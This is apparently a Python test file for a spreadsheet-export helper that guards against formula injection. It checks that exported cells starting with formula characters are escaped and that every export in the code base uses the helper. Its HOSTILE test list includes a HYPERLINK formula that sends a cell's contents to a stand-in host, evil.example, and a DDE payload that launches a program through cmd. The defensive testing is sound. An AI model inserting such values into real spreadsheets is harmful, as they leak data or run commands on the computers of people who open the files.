"""Exports cannot carry formulas: the one helper (core.exports) and a guard that every
spreadsheet export in the code base goes through it."""

import io
import re
from pathlib import Path

import openpyxl
import pytest
from openpyxl import Workbook
from tablib import Dataset

from core.exports import SafeCSV, SafeXLSX, escape_formula, escape_row, workbook_bytes

REPO = Path(__file__).resolve().parents[2]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1, "点此领奖")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_leading_text_is_escaped_with_an_apostrophe(value):
    assert escape_formula(value) == "'" + value


@pytest.mark.parametrize("value", ["张三", "13812345678", "", "a=b", " =x", "１+１"])
def test_ordinary_text_is_left_as_it_is(value):
    assert escape_formula(value) == value


def test_numbers_dates_and_empty_cells_are_not_turned_into_text():
    assert escape_row([-5, 3.5, None, True]) == [-5, 3.5, None, True]


def test_an_openpyxl_workbook_keeps_no_formula():
    book = Workbook()
    book.active.append(["姓名", HOSTILE[0], -3])
    book.create_sheet("第二页").append([HOSTILE[3]])
    saved = openpyxl.load_workbook(io.BytesIO(workbook_bytes(book)))
    first = saved.worksheets[0]
    assert first["B1"].data_type == "s"
    assert first["B1"].value == "'" + HOSTILE[0]
    assert first["C1"].value == -3
    assert saved.worksheets[1]["A1"].value == "'" + HOSTILE[3]


def test_the_admin_formats_escape_csv_and_xlsx_cells():
    def dataset():
        data = Dataset(headers=["姓名", "面积"])
        data.append([HOSTILE[1], None])
        return data

    csv_text = SafeCSV().export_data(dataset())
    assert "'+1+cmd" in csv_text
    assert "None" not in csv_text  # the library's own switch would write "None" here
    sheet = openpyxl.load_workbook(io.BytesIO(SafeXLSX().export_data(dataset()))).active
    assert sheet["A2"].value == "'" + HOSTILE[1]


def _python_sources():
    skip = {".venv", "var", "tests", "bench", "node_modules"}
    for path in REPO.rglob("*.py"):
        if not skip.intersection(path.relative_to(REPO).parts) and "migrations" not in path.parts:
            yield path


def test_every_spreadsheet_export_in_the_code_base_goes_through_core_exports():
    """A new export written with openpyxl, the csv module or import-export must use the helper."""
    writes_sheets = re.compile(
        r"\bWorkbook\(|csv\.writer|csv\.DictWriter|import_export\.admin import"
    )
    offenders = []
    for path in _python_sources():
        text = path.read_text(encoding="utf-8")
        if path.name == "exports.py" and path.parent.name == "core":
            continue
        if writes_sheets.search(text) and "core.exports" not in text:
            offenders.append(str(path.relative_to(REPO)))
    assert offenders == []
